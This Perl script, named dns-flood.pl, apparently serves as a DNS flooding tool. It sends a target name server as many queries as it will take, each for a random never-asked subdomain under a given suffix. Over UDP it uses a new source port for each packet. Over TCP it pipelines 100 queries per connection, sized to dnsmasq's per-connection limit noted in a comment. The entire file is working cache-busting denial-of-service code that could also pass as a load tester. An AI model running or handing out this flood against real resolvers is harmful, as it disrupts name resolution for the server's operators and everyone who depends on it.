# Asks a name service as fast as it takes: dns-flood.pl udp|tcp ADDRESS SUFFIX NUMBER [TYPE]. Names that nobody has asked before, from as
# many source ports as there are; by TCP many questions in each connection, on as many connections as are let be.
use strict;
use IO::Select;
use IO::Socket::IP;
my ($how, $address, $suffix, $number, $type) = @ARGV;
$type = 1 unless defined $type;

sub question {
  my $name = join '', map { chr(97 + int rand 26) } 1 .. 12;
  my $labels = join '', map { chr(length) . $_ } $name, split /\./, $suffix;
  return pack('n6', int rand 65536, 0x0100, 1, 0, 0, 0) . "$labels\0" . pack('nn', $type, 1);
}

if ($how eq 'udp') {
  my $target = pack_sockaddr_in(53, Socket::inet_aton($address));
  for my $at (1 .. $number) {
    my $socket = IO::Socket::IP->new(Proto => 'udp', LocalPort => 0) or next;
    send($socket, question(), 0, $target);
  }
  exit;
}

my %left;
my $select = IO::Select->new;
my $end = time + 20;
my ($begun, $answers) = (0, 0);
while (time < $end && $answers < $number) {
  while ($select->count < 4 && $begun * 100 < 4 * $number) {
    my $socket = IO::Socket::IP->new(PeerHost => $address, PeerPort => 53, Proto => 'tcp', Timeout => 1) or last;
    $begun++;
    # A resolver takes a hundred of one connection (dnsmasq: TCP_MAX_QUERIES).
    syswrite($socket, join '', map { my $one = question(); pack('n', length $one) . $one } 1 .. 100);
    $select->add($socket);
  }
  for my $socket ($select->can_read(0.2)) {
    my $got = sysread($socket, my $bytes, 65536);
    if (!$got) { $select->remove($socket); close $socket; next }
    $left{$socket} .= $bytes;
    while (length $left{$socket} > 1) {
      my $length = unpack('n', $left{$socket});
      last if length($left{$socket}) < 2 + $length;
      substr($left{$socket}, 0, 2 + $length, '');
      $answers++;
    }
  }
}
print "$answers\n";
